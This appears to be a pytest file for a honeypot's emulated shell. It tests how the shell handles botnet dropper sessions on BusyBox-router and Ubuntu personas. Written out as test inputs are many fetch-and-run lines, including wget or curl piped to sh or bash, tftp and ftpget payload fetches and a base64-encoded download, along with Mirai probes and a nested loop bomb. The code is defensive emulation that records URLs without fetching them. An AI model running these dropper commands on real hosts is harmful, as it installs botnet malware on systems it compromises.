"""The emulated shell against botnet droppers: download shapes, programs by path, the BusyBox router,
Mirai's ELF-header read, compound commands, and a corpus of whole dropper sessions."""

from __future__ import annotations

import logging
import re
import struct
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from honeyguard.errors import ContentError
from honeyguard.sensor.personas import BUILTIN_DIR
from honeyguard.sensor.shell import Shell
from honeyguard.sensor.shell.binaries import elf_header
from honeyguard.sensor.sshd.persona import SshPersona
from honeyguard.sensor.telnetd.busybox import make_busybox
from honeyguard.sensor.telnetd.persona import TelnetPersona
from honeyguard.yamlfile import load_yaml_file
from tests.sensor.test_telnet import only_listed
from tests.sensor.wire_helpers import RawClient

CORPUS = Path(__file__).parent / "data" / "botnet_sessions.txt"
HOST = "198.51.100.5"


class Downloads:
    def __init__(self) -> None:
        self.urls: list[str] = []

    def download(self, url: str, tool: str, command: str) -> None:
        self.urls.append(url)


def router(downloads: Downloads) -> Shell:
    persona = load_yaml_file(BUILTIN_DIR / "busybox-router.yaml", TelnetPersona, error=ContentError)
    shell = Shell(facts=persona.system, hostname="RT-N300", events=downloads,
                  now=lambda: datetime(2026, 3, 1, 12, 0, tzinfo=UTC))
    assert persona.busybox is not None
    make_busybox(shell, persona.busybox)
    return shell


def ubuntu(downloads: Downloads) -> Shell:
    persona = load_yaml_file(BUILTIN_DIR / "openssh-ubuntu-22.04.yaml", SshPersona, error=ContentError)
    return Shell(facts=persona.system, hostname="web01", events=downloads,
                 now=lambda: datetime(2026, 3, 1, 12, 0, tzinfo=UTC))


SHELLS = {"router": router, "ubuntu": ubuntu}


def run(shell: Shell, line: str) -> str:
    return shell.run_line(line).output


# -- downloads: every shape records its URL and leaves the file; nothing is fetched ---------------
DOWNLOADS = [
    ("busybox wget -g 198.51.100.5 -l /tmp/mozi -r /Mozi.m", f"tftp://{HOST}/Mozi.m", "/tmp/mozi"),
    ("tftp -g -r mips -l /tmp/m 198.51.100.5 69", f"tftp://{HOST}/mips", "/tmp/m"),
    ("tftp -g -r mips -l /tmp/m 198.51.100.5 6969", f"tftp://{HOST}:6969/mips", "/tmp/m"),
    ("cd /tmp; tftp 198.51.100.5 -c get bins.sh", f"tftp://{HOST}/bins.sh", "/tmp/bins.sh"),
    ("cd /tmp; ftpget -v -u anonymous -p anonymous -P 21 198.51.100.5 f.sh r.sh", f"ftp://{HOST}/r.sh", "/tmp/f.sh"),
    ("wget -O- http://198.51.100.5/x.sh | sh", f"http://{HOST}/x.sh", None),
    ("wget http://198.51.100.5/z -O /tmp/x; chmod 777 /tmp/x; /tmp/x arg", f"http://{HOST}/z", "/tmp/x"),
    ("cd /tmp; /bin/busybox wget http://198.51.100.5:8080/a.arm7", f"http://{HOST}:8080/a.arm7", "/tmp/a.arm7"),
]


@pytest.mark.parametrize("flavour", sorted(SHELLS))
@pytest.mark.parametrize(("line", "url", "saved"), DOWNLOADS)
def test_download_shapes_record_the_url_and_create_the_file(flavour: str, line: str, url: str,
                                                             saved: str | None) -> None:
    downloads = Downloads()
    shell = SHELLS[flavour](downloads)
    output = run(shell, line)
    assert downloads.urls == [url], output
    if saved is not None:
        assert shell.fs.get(saved) is not None and len(shell.fs.read(saved)) > 0


def test_curl_pipe_to_bash_records_and_runs_nothing_fetched() -> None:
    downloads = Downloads()
    shell = ubuntu(downloads)
    assert run(shell, "curl -fsSL http://198.51.100.5/y.sh | bash") == ""
    assert downloads.urls == [f"http://{HOST}/y.sh"]


def test_a_dropped_binary_segfaults_in_the_personas_wording() -> None:
    line = "wget -q http://198.51.100.5/z -O /tmp/x; chmod 777 /tmp/x; /tmp/x arg"
    assert run(router(Downloads()), line) == "Segmentation fault\n"  # ash; no core on a router
    assert run(ubuntu(Downloads()), line) == "Segmentation fault (core dumped)\n"
    exec_shell = ubuntu(Downloads())
    exec_shell.error_prefix = "bash: line 1"  # `ssh host cmd`: non-interactive bash names the job
    assert re.fullmatch(r"bash: line 1: \d+ Segmentation fault      \(core dumped\) /tmp/x arg\n",
                        run(exec_shell, line))


def test_a_dropped_script_runs_its_lines() -> None:
    downloads = Downloads()
    shell = router(downloads)
    run(shell, "echo 'wget http://198.51.100.5/inner.mips' > /tmp/s; chmod +x /tmp/s")
    run(shell, "cd /tmp; ./s; sh s")
    assert downloads.urls == [f"http://{HOST}/inner.mips"] * 2


# -- programs named by path reach the emulated command -----------------------------------------
@pytest.mark.parametrize(("line", "url"), [
    ("/usr/bin/wget -q http://198.51.100.5/b", f"http://{HOST}/b"),
    ("/usr/bin/curl -s -O http://198.51.100.5/c", f"http://{HOST}/c"),
    ("/bin/busybox wget -q http://198.51.100.5/d", f"http://{HOST}/d"),
    ("/bin/sh -c 'cd /tmp && wget -q http://198.51.100.5/e'", f"http://{HOST}/e"),
    ("cp /bin/busybox /tmp/bb; cd /tmp; ./bb wget -q http://198.51.100.5/f", f"http://{HOST}/f"),
])
def test_programs_by_path_run_the_emulated_command(line: str, url: str) -> None:
    downloads = Downloads()
    output = run(ubuntu(downloads), line)
    assert downloads.urls == [url] and "Segmentation" not in output and "not found" not in output


def test_a_program_overwritten_by_a_download_is_just_bytes() -> None:
    downloads = Downloads()
    shell = ubuntu(downloads)
    output = run(shell, "wget -q http://198.51.100.5/busybox -O /tmp/bb; chmod +x /tmp/bb; /tmp/bb wget http://x/y")
    assert output == "Segmentation fault (core dumped)\n" and downloads.urls == [f"http://{HOST}/busybox"]


def test_fallback_chain_of_writable_folders() -> None:
    shell = router(Downloads())
    assert run(shell, "cd /nonexistent || cd /var/run || cd /mnt; pwd") == \
        "-sh: cd: can't cd to /nonexistent: No such file or directory\n/var/run\n"


# -- the BusyBox router --------------------------------------------------------------------------
def test_router_has_a_busybox_root_filesystem() -> None:
    shell = router(Downloads())
    listing = run(shell, "ls /bin").split()
    assert {"busybox", "sh", "wget", "echo", "cat", "tftp"} <= set(listing) and "bash" not in listing
    assert run(shell, "which wget") == "/bin/wget\n"
    assert run(shell, "/usr/bin/curl http://x/y") == "-sh: /usr/bin/curl: not found\n"
    assert run(shell, "curl http://x/y") == "-sh: curl: not found\n"
    assert run(shell, "ls -la /var/run /mnt /tmp").count("total") == 3
    assert run(shell, "echo ok > /var/run/.w; cat /var/run/.w") == "ok\n"
    assert "tmpfs /tmp tmpfs" in run(shell, "cat /proc/mounts")
    cpuinfo = run(shell, "cat /proc/cpuinfo")
    assert "MIPS 24KEc" in cpuinfo and "GenuineIntel" not in cpuinfo and "flags" not in cpuinfo


def test_busybox_without_arguments_lists_its_applets() -> None:
    output = run(router(Downloads()), "/bin/busybox")
    assert output.startswith("BusyBox v1.24.1 (2019-04-18 15:10:17 CST) multi-call binary.\n")
    assert "Currently defined functions:\n" in output and "\twget" not in output.split("functions:")[0]
    applets = output.split("Currently defined functions:\n")[1]
    assert "tftp, " in applets and "wget" in applets


def test_mirai_echo_and_applet_probes() -> None:
    shell = router(Downloads())
    assert run(shell, r"echo -e '\x41\x4b'") == "AK\n"
    assert run(shell, r"echo -ne '\0101\x4b\c ignored'") == "AK"  # octal, hex and \c as BusyBox's echo
    assert run(shell, r"echo '\x41'") == "\\x41\n"  # without -e nothing is interpreted
    assert run(shell, r"/bin/busybox echo -ne '\x6b\x61\x6d\x69'") == "kami"
    assert run(shell, "/bin/busybox ECCHI") == "ECCHI: applet not found\n"
    assert run(shell, "/bin/busybox vi") == ""  # an applet of this build we do not emulate
    assert run(shell, "enable") == "-sh: enable: not found\n"


def _header(output: str) -> bytes:
    start = output.index("\x7fELF")
    return output[start:start + 52].encode("latin-1")


def test_mirai_reads_an_elf_header_of_the_personas_architecture() -> None:
    shell = router(Downloads())
    output = run(shell, "dd bs=52 count=1 if=/bin/echo")
    assert "1+0 records in\n1+0 records out\n52 bytes (52B) copied" in output
    header = _header(output)
    # the MT7628 router: 32-bit, little-endian MIPS (e_machine 8) executable
    assert header[4:6] == b"\x01\x01" and struct.unpack("<HH", header[16:20]) == (2, 8)
    assert _header(run(shell, "cat /bin/echo")) == header
    gnu = ubuntu(Downloads())
    x86 = run(gnu, "dd bs=52 count=1 if=/bin/echo 2>/dev/null").encode("latin-1")
    assert x86[:6] == b"\x7fELF\x02\x01" and struct.unpack("<H", x86[18:20]) == (62,)
    assert "52 bytes copied" in run(gnu, "dd bs=52 count=1 if=/bin/echo of=/tmp/h")


@pytest.mark.parametrize(("machine", "order", "elf_class", "data", "e_machine"), [
    ("mips", "", 1, 2, 8), ("mips", "little", 1, 1, 8), ("armv7l", "", 1, 1, 40), ("x86_64", "", 2, 1, 62),
    ("i686", "", 1, 1, 3), ("aarch64", "", 2, 1, 183), ("ppc", "", 1, 2, 20),
])
def test_elf_headers_name_the_architecture(machine: str, order: str, elf_class: int, data: int,
                                           e_machine: int) -> None:
    header = elf_header(machine, order)
    assert header[:4] == b"\x7fELF" and header[4] == elf_class and header[5] == data
    assert len(header) == (52 if elf_class == 1 else 64)
    assert struct.unpack("<H" if data == 1 else ">H", header[18:20]) == (e_machine,)
    text_safe = [b for b in header if b >= 0x80 or b in (10, 13)]
    assert text_safe == ([183] if machine == "aarch64" else [])  # survives the text path to a terminal


# -- compound commands -------------------------------------------------------------------------
def test_for_loops_run_once_per_word_and_are_capped() -> None:
    downloads = Downloads()
    shell = router(downloads)
    run(shell, "for a in mips arm; do wget -q http://198.51.100.5/x.$a -O /tmp/x; done; echo after")
    assert downloads.urls == [f"http://{HOST}/x.mips", f"http://{HOST}/x.arm"]
    assert run(shell, "for i in " + " ".join(["n"] * 500) + "; do echo $i; done").count("n") == 32


def test_while_if_and_subshells() -> None:
    shell = ubuntu(Downloads())
    assert run(shell, "while true; do echo tick; sleep 60; done") == "tick\n"  # once: never spins
    assert run(shell, "if [ -d /tmp ]; then echo yes; else echo no; fi") == "yes\n"
    assert run(shell, "if test -f /nope; then echo yes; else echo no; fi") == "no\n"
    assert run(shell, "(echo a; echo b) | wc -l") == "2\n"
    assert run(shell, "(wget -q http://198.51.100.5/s.sh -O- || echo fallback) | sh; echo $?") == "0\n"
    captured = run(shell, 'echo "[$(wget -O /tmp/q http://198.51.100.5/q)]"')  # stderr is not captured
    assert f"saved [{len(shell.fs.read('/tmp/q'))}/" in captured and captured.endswith("\n[]\n")
    assert run(shell, "echo $(wget -O /tmp/q http://198.51.100.5/q 2>&1 | head -n 1 | awk '{print $3}')") == \
        "http://198.51.100.5/q\n"


def test_base64_decoded_scripts_run_through_the_emulator() -> None:
    downloads = Downloads()
    shell = ubuntu(downloads)
    run(shell, "echo d2dldCAtcSBodHRwOi8vMTk4LjUxLjEwMC41L2I2NA== | base64 -d | bash")
    assert downloads.urls == [f"http://{HOST}/b64"]


# -- the corpus: whole dropper sessions, as honeypots see them ---------------------------------
# commands the persona really lacks: vendor-CLI escapes, Mirai's probes, curl on the router
_REALLY_MISSING = {"enable", "system", "shell", "linuxshell", "curl"}


def _sessions() -> list[tuple[str, list[str]]]:
    sessions: list[tuple[str, list[str]]] = []
    for line in CORPUS.read_text().splitlines():
        if line.startswith("=="):
            sessions.append((line.strip("= "), []))
        elif line.strip() and not line.startswith("#"):
            sessions[-1][1].append(line)
    return sessions


@pytest.mark.parametrize(("persona", "lines"), _sessions())
def test_botnet_sessions_run_cleanly(persona: str, lines: list[str], caplog: pytest.LogCaptureFixture) -> None:
    downloads = Downloads()
    shell = router(downloads) if persona == "busybox-router" else ubuntu(downloads)
    caplog.set_level(logging.ERROR)
    for line in lines:
        before = len(downloads.urls)
        output = shell.run_line(line).output
        missing = set(re.findall(r"^-?(?:sh|bash): (\S+): (?:command )?not found$", output, re.M))
        assert missing <= _REALLY_MISSING, (line, output)
        if re.search(r"\b(wget|curl|tftp|ftpget)\b.*\b(http|-g|-c get|anonymous)\b", line):
            assert len(downloads.urls) > before, line
    for url in downloads.urls:
        parts = urlsplit(url)
        assert parts.scheme in ("http", "https", "tftp", "ftp") and parts.hostname, url
    assert not caplog.records  # no emulated command failed with an exception
    assert len(downloads.urls) >= 1


def test_corpus_covers_the_families() -> None:
    text = CORPUS.read_text()
    for shape in ("/bin/busybox ECCHI", "busybox wget -g", "tftp -g", "-c get", "ftpget", "| sh", "| bash",
                  "dd bs=52 count=1", "chpasswd", "authorized_keys", "base64 -d"):
        assert shape in text, shape


# -- the Debian telnet persona ------------------------------------------------------------------
def test_debian_telnet_login_prints_last_login(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["telnet"], personas={"telnet": "debian-telnetd"},
                         ssh=only_listed(("operator", "backup2019")))
    client = RawClient(sensor.port("telnet"), answer_options=True)
    client.read_until(b"login: ")
    client.send(b"operator\r\n")
    client.read_until(b"Password: ")
    client.send(b"backup2019\r\n")
    motd = client.read_until(b"operator@backup-01:~$ ")
    client.close()
    found = re.search(rb"permitted by applicable law\.\r\nLast login: (\w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d) UTC "
                      rb"(\d{4}) from 10\.20\.0\.14 on pts/0\r\noperator@backup-01", motd)
    assert found, motd[-300:]
    last = datetime.strptime(f"{found.group(1).decode()} {found.group(2).decode()}", "%a %b %d %H:%M:%S %Y")
    assert last.replace(tzinfo=UTC) < datetime.now(UTC)  # a previous login, not this one


def test_loop_bombs_are_bounded() -> None:
    downloads = Downloads()
    shell = ubuntu(downloads)
    words = " ".join(["x"] * 40)
    bomb = (f"for a in {words}; do for b in {words}; do for c in {words}; do wget -q http://198.51.100.5/$a$b$c; "
            "done; done; done")
    result = shell.run_line(bomb)
    assert 0 < len(downloads.urls) <= 1000 and len(result.output) <= 256 * 1024
    assert run(shell, "echo still here") == "still here\n"  # the next line has its full budget again
    assert run(shell, "(" * 50 + "echo deep" + ")" * 50) == ""  # nesting past the cap answers nothing


def test_malformed_urls_are_recorded_without_errors(caplog: pytest.LogCaptureFixture) -> None:
    downloads = Downloads()
    shell = router(downloads)
    caplog.set_level(logging.ERROR)
    output = run(shell, "cd /tmp; wget http://[bad/x.mips; wget -O- 'http://[::1/y' | sh")
    assert downloads.urls == ["http://[bad/x.mips", "http://[::1/y"] and "Input/output error" not in output
    assert shell.fs.get("/tmp/x.mips") is not None and not caplog.records
